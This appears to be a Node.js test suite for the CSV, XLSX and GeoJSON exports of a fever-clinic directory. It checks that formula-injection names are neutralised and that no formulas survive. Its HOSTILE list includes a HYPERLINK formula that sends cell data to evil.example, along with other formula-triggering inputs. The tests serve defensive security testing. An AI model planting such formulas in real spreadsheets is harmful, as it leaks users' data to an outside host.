// What the desk hands out: each format read back, and nothing in it that a spreadsheet would run.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { published, signIn, token } from './desk_support.mjs';
import { ask, feverctl, fixtures, sampleStore, startDesk, temporaryFolder } from './support.mjs';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1-2', '-2+3', '@SUM(A1)'];
/* Apostrophes of their own, which are not ours to take off. */
const QUOTED = ["'春风医院", "'=1+1 医院", "''+2 医院"];

/** The rows of a CSV, quotes taken off. */
function rowsOf(text) {
  const rows = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r\n|\n|$)/g)) {
    rows.at(-1).push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}

describe('exports of the desk', () => {
  const uploads = temporaryFolder();
  let desk, store, clerk;
  const file = async (path) => {
    const answer = await clerk.get(path);
    assert.equal(answer.status, 200, path);
    return answer;
  };
  const nameOf = (answer) =>
    decodeURIComponent(/^attachment; filename\*=UTF-8''(.+)$/.exec(answer.headers['content-disposition'])[1]);

  before(async () => {
    store = sampleStore();
    const list = join(temporaryFolder(), 'list.csv');
    writeFileSync(list, `name,kind,adcode,address\n${[...HOSTILE, ...QUOTED].map((name, i) =>
      `"${name.replaceAll('"', '""')}",fever_clinic,110102,西路${i}号`).join('\n')}\n`);
    feverctl(store, 'import', list, '--source', 'hostile');
    desk = await startDesk(store, [], { TMPDIR: uploads });
    clerk = await signIn(desk, token(store, 'clerk'));
  });
  after(() => desk.stop());

  test('CSV opens in a spreadsheet and runs nothing', async () => {
    const answer = await file('/export/csv?region=110102');
    assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(nameOf(answer), /^发热门诊-北京市西城区-\d{4}-\d\d-\d\d-r\d+\.csv$/);
    const text = answer.body.toString();
    assert.equal(text.charCodeAt(0), 0xfeff);
    const [header, ...rows] = rowsOf(text.slice(1));
    assert.ok(rows.every((row) => row.length === header.length && row[header.indexOf('adcode')] === '110102'));
    const names = rows.map((row) => row[header.indexOf('name')]);
    for (const name of HOSTILE) assert.ok(names.includes(`'${name}`), name);
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  test('a workbook holds texts alone, and comes back as it was', async () => {
    const answer = await file('/export/xlsx');
    assert.match(answer.headers['content-type'], /spreadsheetml\.sheet$/);
    assert.match(nameOf(answer), /^发热门诊-全部-.*\.xlsx$/);
    const folder = temporaryFolder(), path = join(folder, 'all.xlsx');
    writeFileSync(path, answer.body);
    mkdirSync(join(folder, 'parts'));
    assert.equal(spawnSync('unzip', ['-q', path, '-d', join(folder, 'parts')]).status, 0);
    const sheet = readFileSync(join(folder, 'parts/xl/worksheets/sheet1.xml'), 'utf8');
    assert.doesNotMatch(sheet, /<f[ >]|<hyperlink/);
    assert.match(sheet, /=HYPERLINK\(/);
    const before = published(store);
    feverctl(store, 'import', path, '--source', 'again', '--partial');
    assert.equal(published(store), before);
    const [own] = readdirSync(uploads);
    assert.deepEqual(readdirSync(join(uploads, own)), [], 'no file is left behind');
  });

  test('every export comes back as the same clinics, whatever their names begin with', async () => {
    const folder = temporaryFolder(), own = published(store);
    const write = (name, bytes) => { writeFileSync(join(folder, name), bytes); return join(folder, name); };
    for (const name of [...HOSTILE, ...QUOTED]) assert.ok(own.includes(name.replaceAll('"', '""')), name);
    const files = [write('desk.csv', (await file('/export/csv')).body), write('desk.xlsx', (await file('/export/xlsx')).body)];
    for (const name of ['tool.csv', 'tool.xlsx']) {
      files.push(join(folder, name));
      feverctl(store, 'export', files.at(-1));
    }
    const empty = join(folder, 'empty.db');
    feverctl(empty, 'init');
    feverctl(empty, 'import', join(fixtures, 'regions.csv'), '--as', 'regions');
    for (const path of files) {
      const fresh = join(temporaryFolder(), 'fresh.db');
      copyFileSync(empty, fresh);
      feverctl(fresh, 'import', path);
      assert.equal(published(fresh), own, path);
    }
  });

  test('GeoJSON has the region\'s clinics', async () => {
    const answer = await file('/export/geojson?region=110101');
    assert.equal(answer.headers['content-type'], 'application/geo+json');
    const features = JSON.parse(answer.body).features;
    assert.ok(features.length > 3);
    assert.ok(features.every((feature) => feature.properties.adcode === '110101'));
    const all = JSON.parse((await file('/export/geojson')).body).features;
    assert.ok(all.length >= features.length + HOSTILE.length);
    assert.deepEqual(JSON.parse((await file('/export/geojson?region=110000')).body).features.map(({ id }) => id),
      all.filter(({ properties }) => properties.adcode?.startsWith('11')).map(({ id }) => id));
  });

  test('the page offers each for the chosen region', async () => {
    const page = (await file('/export?region=110102')).body.toString();
    assert.match(page, /<option value="110102" selected>北京市西城区/);
    assert.match(page, /北京市西城区：\d+ 家/);
    for (const format of ['csv', 'xlsx', 'geojson'])
      assert.match(page, new RegExp(`href="/export/${format}\\?region=110102"`));
    assert.match((await file('/export?lang=en')).body.toString(), /Download a workbook/);
    await file('/export?lang=zh-CN');
  });

  test('what is no region or format is refused, and nobody gets a file without signing in', async () => {
    for (const path of ['/export/pdf', '/export/csv?region=1', '/export/csv?region=999999', '/export?region=x',
      '/export/csv?region=%ff', '/export/csv?region=110101%00'])
      assert.equal((await clerk.get(path)).status, 404, path);
    assert.equal((await ask(desk.port, '/export/csv')).status, 303);
  });
});
